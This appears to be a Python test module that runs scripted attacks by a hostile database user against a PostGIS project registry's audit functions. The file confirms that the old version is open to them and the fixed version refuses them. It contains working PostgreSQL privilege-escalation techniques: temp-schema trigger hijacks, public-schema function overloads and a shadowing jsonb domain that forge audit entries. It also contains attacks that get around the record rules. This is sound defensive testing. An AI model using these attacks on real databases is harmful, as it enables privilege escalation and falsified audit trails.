"""Attacks of a hostile registry user (issue 16), run as that user's own database session.

Each attack returns True when it got what it was after (code run with the registry owner's
rights, a forged audit entry, a record written around the rules) and False, or the
database's refusal, when it did not. The same attacks run against a registry published by
the previous version (tests/postgis/legacy), where they must succeed (the holes are real),
and against a published or upgraded registry, where every one must be refused.
"""

from __future__ import annotations

from typing import Callable, Union

import psycopg2
from psycopg2 import sql

FORGED_NOTE = "forged by an attacker"
# Run with the rights of whoever executes it: a forged audit entry in bob's name, naming that role.
FORGE = ("INSERT INTO smartcity.audit_log (table_name, record_fid, record_id, action, row_version, changed_by, note) "
         f"VALUES ('projects', 1, current_user, 'update', 1, 'bob', '{FORGED_NOTE}')")
AUDIT_COLUMNS = ("table_name text, record_fid integer, record_id text, action text, row_version integer, "
                 "changed_by text, old_row jsonb, new_row jsonb")

Outcome = Union[bool, psycopg2.Error]


def session(registry, user: str):
    """A database session of ``user`` (autocommit, as psql)."""
    connection = registry.database.connect(user=user, password=registry.planners[user])
    connection.autocommit = True
    return connection


def run(registry, user: str, statements, check: Callable[[], bool]) -> Outcome:
    """Run ``statements`` as ``user``; the database's refusal, else whether ``check`` finds the attack's effect."""
    connection = session(registry, user)
    try:
        with connection.cursor() as cursor:
            for statement in statements:
                cursor.execute(statement)
    except psycopg2.Error as error:
        return error if not check() else True
    finally:
        connection.close()
    return check()


def forged(registry) -> list[tuple]:
    """Forged audit entries: (role whose rights wrote it, name it claims)."""
    return [tuple(row) for row in registry.sql(
        "SELECT record_id, changed_by FROM smartcity.audit_log WHERE note = %s", (FORGED_NOTE,))]


def forged_somewhere(registry) -> bool:
    return bool(forged(registry))


# --- running code with the owner's rights ---------------------------------------------------------------------------

def temp_trigger(registry, user: str = "alice", schema: str = "smartcity") -> Outcome:
    """Attach the registry's audit function to a temporary table of one's own; its audit table runs our trigger."""
    return run(registry, user, [
        f"CREATE FUNCTION pg_temp.loot() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {FORGE}; RETURN NEW; END $$",
        f"CREATE TEMP TABLE audit_log ({AUDIT_COLUMNS})",
        "CREATE TRIGGER loot AFTER INSERT ON pg_temp.audit_log FOR EACH ROW EXECUTE FUNCTION pg_temp.loot()",
        "CREATE TEMP TABLE victim (fid integer, project_id text, row_version integer)",
        sql.SQL("CREATE TRIGGER hijack AFTER INSERT ON pg_temp.victim FOR EACH ROW "
                "EXECUTE FUNCTION {}.write_audit('project_id')").format(sql.Identifier(schema)),
        "INSERT INTO pg_temp.victim VALUES (1, 'x', 1)",
    ], lambda: forged_somewhere(registry))


def temp_trigger_on_a_copy_named_like_the_registry(registry, user: str = "alice") -> Outcome:
    """The same with a temporary table called projects (in case the function checks names only)."""
    return run(registry, user, [
        f"CREATE FUNCTION pg_temp.loot() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {FORGE}; RETURN NEW; END $$",
        f"CREATE TEMP TABLE audit_log ({AUDIT_COLUMNS})",
        "CREATE TRIGGER loot AFTER INSERT ON pg_temp.audit_log FOR EACH ROW EXECUTE FUNCTION pg_temp.loot()",
        "CREATE TEMP TABLE projects (LIKE smartcity.projects)",
        "CREATE TRIGGER hijack AFTER INSERT ON pg_temp.projects FOR EACH ROW "
        "EXECUTE FUNCTION smartcity.write_audit('project_id')",
        "INSERT INTO pg_temp.projects SELECT * FROM smartcity.projects LIMIT 1",
    ], lambda: forged_somewhere(registry))


def public_overload(registry, user: str = "alice") -> Outcome:
    """A format(text, name) in public matches the audit function's call better than pg_catalog's."""
    return run(registry, user, [
        "CREATE FUNCTION public.format(f text, a name) RETURNS text LANGUAGE plpgsql AS "
        f"$$ BEGIN {FORGE}; RETURN pg_catalog.format(f, a); END $$",
        "CREATE FUNCTION public.format(f text, a integer, b text) RETURNS text LANGUAGE plpgsql AS "
        f"$$ BEGIN {FORGE}; RETURN pg_catalog.format(f, a, b); END $$",
        # An ordinary save, by the attacker or by anyone after: the audit runs the overload.
        "UPDATE smartcity.projects SET title = title, base_version = row_version WHERE fid = 1",
    ], lambda: forged_somewhere(registry))


def public_overload_runs_as_whoever_edits(registry, user: str = "alice") -> Outcome:
    """A to_jsonb for the projects' row type in public: the version trigger of anyone's edit runs it as them."""
    outcome = run(registry, user, [
        "CREATE FUNCTION public.to_jsonb(r smartcity.projects) RETURNS jsonb LANGUAGE plpgsql AS "
        f"$$ BEGIN {FORGE}; RETURN pg_catalog.row_to_json(r)::jsonb; END $$",
    ], lambda: forged_somewhere(registry))
    if outcome is not False:
        return outcome
    # The administrator (a superuser here) corrects a title: whose rights does alice's function get?
    try:
        registry.sql("UPDATE smartcity.projects SET title = title, base_version = row_version WHERE fid = 4")
    except psycopg2.Error as error:
        return error
    return forged_somewhere(registry)


def temp_type(registry, user: str = "alice") -> Outcome:
    """A temporary domain named jsonb, whose check is our function: the audit casts to jsonb on delete."""
    return run(registry, user, [
        "CREATE FUNCTION pg_temp.loot(pg_catalog.jsonb) RETURNS boolean LANGUAGE plpgsql AS "
        f"$$ BEGIN {FORGE}; RETURN true; END $$",
        "CREATE DOMAIN pg_temp.jsonb AS pg_catalog.jsonb CHECK (pg_temp.loot(VALUE))",
        "DELETE FROM smartcity.projects WHERE fid = 1",
    ], lambda: forged_somewhere(registry))


def conflicts(registry) -> int:
    return registry.sql("SELECT count(*) FROM smartcity.audit_log WHERE action = 'conflict'")[0][0]


# --- writing around the rules -----------------------------------------------------------------------------------

def unlimited_conflicts(registry, user: str = "alice", count: int = 50) -> Outcome:
    """File conflict entries for a record nobody else changed, as many and with whatever content one likes."""
    call = ("SELECT smartcity.record_conflict('projects', 1, row_version, "
            "'{\"project_id\": \"someone_else\", \"title\": \"never refused\"}'::jsonb) "
            "FROM smartcity.projects WHERE fid = 1")
    before = conflicts(registry)
    return run(registry, user, [call] * count, lambda: conflicts(registry) > before)


def conflict_for_a_future_version(registry, user: str = "alice") -> Outcome:
    """File a conflict made on a version the record never had."""
    before = conflicts(registry)
    return run(registry, user, [
        "SELECT smartcity.record_conflict('projects', 1, 999, '{\"title\": \"from the future\"}'::jsonb)",
    ], lambda: conflicts(registry) > before)


def change_fid(registry, user: str = "alice") -> Outcome:
    """Move a record to another fid: its history in the audit log no longer names it."""
    return run(registry, user, [
        "UPDATE smartcity.projects SET fid = 9999, base_version = row_version WHERE fid = 1",
    ], lambda: registry.sql("SELECT count(*) FROM smartcity.projects WHERE fid = 9999")[0][0] == 1)


def reuse_fid(registry, user: str = "alice") -> Outcome:
    """Delete a record and add another under its fid: two records' histories merge."""
    return run(registry, user, [
        "DELETE FROM smartcity.projects WHERE fid = 2",
        "INSERT INTO smartcity.projects (fid, project_id, title) VALUES (2, 'impostor', 'Impostor')",
    ], lambda: registry.sql("SELECT count(*) FROM smartcity.projects WHERE fid = 2 AND project_id = 'impostor'")[0][0]
               == 1)


ROUTES_OPEN_BEFORE = {  # name → attack that succeeded against the previous version's registry
    "temp_trigger_as_editor": lambda registry: temp_trigger(registry, "alice"),
    "temp_trigger_as_reader": lambda registry: temp_trigger(registry, "carol"),
    "temp_trigger_on_a_copy_named_like_the_registry": temp_trigger_on_a_copy_named_like_the_registry,
    "temp_type_hijacks_a_cast": temp_type,
    "unlimited_conflicts": unlimited_conflicts,
    "conflict_for_a_future_version": conflict_for_a_future_version,
    "change_fid": change_fid,
    "reuse_fid": reuse_fid,
}
